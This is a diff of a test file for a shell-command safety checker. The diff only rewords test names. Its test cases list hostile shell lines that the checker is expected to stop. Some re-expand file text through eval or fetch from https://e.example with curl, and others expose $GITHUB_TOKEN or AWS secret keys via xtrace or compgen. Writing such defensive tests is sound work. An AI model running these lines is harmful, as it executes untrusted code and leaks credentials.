@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import { judgeShell } from '../support.ts';
 
-describe('text that the shell expands once more', () => {
+describe('text that the shell expands a second time', () => {
 	test.each([
 		'mapfile -C eval -c 1 < README.md',
 		'readarray -C eval -c1 list < README.md',
@@ -19,7 +19,7 @@ describe('text that the shell expands once more', () => {
 		'declare -a a; declare "a=($(cat README.md))"',
 		"declare -a 'a=($(curl -s https://e.example))'",
 		'x="$(cat README.md)"; declare -ga "list=($x)"',
-	])('asks: %s', (line) => {
+	])('is not allowed when the text is unknown: %s', (line) => {
 		expect(judgeShell(line).decision).not.toBe('allow');
 	});
 
@@ -32,12 +32,12 @@ describe('text that the shell expands once more', () => {
 		'declare -a files=($(git ls-files src)); echo "${#files[@]}"',
 		'f() { local -a args=("$@"); echo "${args[@]}"; }; f a b',
 		'readonly x="$(cat README.md)"; echo "$x"',
-	])('passes where nothing else can come of it: %s', (line) => {
+	])('is allowed when the result is harmless: %s', (line) => {
 		expect(judgeShell(line).decision).toBe('allow');
 	});
 });
 
-describe('a secret of the environment', () => {
+describe('a secret in the environment', () => {
 	test.each([
 		`compgen -W '$GITHUB_TOKEN'`,
 		`compgen -W '\${AWS_SECRET_ACCESS_KEY}' x`,
@@ -48,12 +48,12 @@ describe('a secret of the environment', () => {
 		`echo 'test -n "$GITHUB_TOKEN"' | bash -x`,
 		'shopt -so xtrace; test -n "$GITHUB_TOKEN"',
 		'shopt -s -o verbose; test -n "$GITHUB_TOKEN"',
-	])('is shown, so it is blocked: %s', (line) => {
+	])('is blocked when the line shows it: %s', (line) => {
 		expect(judgeShell(line).decision).toBe('block');
 	});
 
 	test.each(['((PASS++))', '((PASS = PASS + 1)); echo $PASS', 'let PASS+=1', 'declare -i n=5', `compgen -W 'a b' a`])(
-		'is not what only has its name: %s',
+		'is not shown by a line that only uses its name: %s',
 		(line) => {
 			expect(judgeShell(line).decision).toBe('allow');
 		},
